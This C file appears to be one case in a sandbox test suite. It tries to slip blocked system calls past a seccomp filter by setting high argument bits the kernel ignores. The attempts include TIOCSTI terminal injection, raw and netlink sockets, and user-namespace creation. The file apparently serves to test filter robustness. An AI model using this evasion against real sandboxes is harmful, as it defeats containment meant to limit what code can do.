/* K18: the kernel takes 32 bits of these arguments, a filter compares 64: garbage above. */
#include "attack.h"
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

int main(void) {
    unsigned long high = 0xdead00000000ul;
    char character = 'X';
    TRY("ioctl_tiocsti", syscall(SYS_ioctl, 0, TIOCSTI | high, &character));
    TRY("socket_packet", syscall(SYS_socket, AF_PACKET | high, SOCK_RAW, 0));
    TRY("socket_vsock", syscall(SYS_socket, AF_VSOCK | high, SOCK_STREAM, 0));
    TRY("socket_alg", syscall(SYS_socket, AF_ALG | high, SOCK_SEQPACKET, 0));
    TRY("socket_netlink", syscall(SYS_socket, AF_NETLINK | high, SOCK_RAW, 12));
    TRY("clone_user", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD | high, NULL, NULL, NULL, NULL));
    TRY("unshare_user", syscall(SYS_unshare, CLONE_NEWUSER | high));
    TRY("personality", syscall(SYS_personality, 0x0400000ul | high));
    TRY("prctl", syscall(SYS_prctl, 0x53564d41ul | high, 0, 0, 0, 0));
    return 0;
}
